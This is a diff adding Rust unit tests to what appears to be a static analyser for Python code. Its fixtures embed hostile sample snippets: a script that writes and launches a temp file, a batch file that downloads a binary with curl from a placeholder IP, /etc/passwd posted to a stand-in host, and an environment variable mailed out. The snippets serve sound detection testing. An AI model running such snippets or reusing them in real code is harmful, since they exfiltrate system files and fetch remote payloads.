@@ -288,3 +288,40 @@ fn the_mark_of_a_place_is_its_call() {
     assert_eq!(mark.collect::<String>(), "os.system('echo hello')");
     assert!(site.snippet.chars().count() <= 240);
 }
+
+#[test]
+fn a_temporary_file_has_a_path_and_what_is_written_to_it_runs_when_it_is_started() {
+    let source = "import os, sys\nfrom tempfile import NamedTemporaryFile as T\nt = T(delete=False)\nt.write(b'import os; os.remove(\"a\")')\nt.close()\nos.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {t.name}\")";
+    let started = event(source, "os.system");
+    let made = event(source, "tempfile.NamedTemporaryFile");
+    let path = made.text(Role::Path).expect("a path");
+    assert!(started.text(Role::Command).is_some_and(|c| c.ends_with(path)), "{started:?}");
+    assert_eq!(event(source, "os.remove").site.layer, 1);
+}
+
+#[test]
+fn a_script_that_is_written_line_by_line_and_started_is_read() {
+    let source = "import subprocess\nwith open('x.bat', 'w') as f:\n    f.write('@echo off\\n')\n    f.write('curl -o a.bin http://192.0.2.1/a\\n')\nsubprocess.Popen(['x.bat'])";
+    assert!(calls(source).iter().any(|name| name.ends_with(":curl")), "{:?}", calls(source));
+}
+
+#[test]
+fn what_is_put_into_an_object_from_outside_comes_out_of_it() {
+    let form = "import aiohttp\nform = aiohttp.FormData()\nform.add_field('f', open('/etc/passwd', 'rb'))\naiohttp.post('http://a.example/', data=form)";
+    assert!(
+        event(form, "aiohttp.post")
+            .argument(Role::Data)
+            .is_some_and(|a| a.origins.kinds.contains(OriginKind::File))
+    );
+    let mail = "import os, smtplib\nfrom email.mime.multipart import MIMEMultipart\nm = MIMEMultipart()\nm['Subject'] = os.environ['USER']\nsmtplib.SMTP('m.example').sendmail('a', 'b', m.as_string())";
+    let sent = event(mail, "smtplib.SMTP().sendmail");
+    assert!(sent.argument(Role::Data).is_some_and(|a| a.origins.kinds.contains(OriginKind::Env)), "{sent:?}");
+}
+
+#[test]
+fn a_name_that_nothing_binds_is_what_it_was_meant_to_be() {
+    assert_eq!(calls("def f():\n    requests.get('http://a.example/')\nf()"), ["requests.get"]);
+    let method = "class C:\n    from os import system\n    def m(self):\n        system('echo a')\nC().m()";
+    assert_eq!(calls(method), ["os.system"]);
+    assert!(calls("def f(thing):\n    unheard_of.get('a')\nf(1)").is_empty());
+}
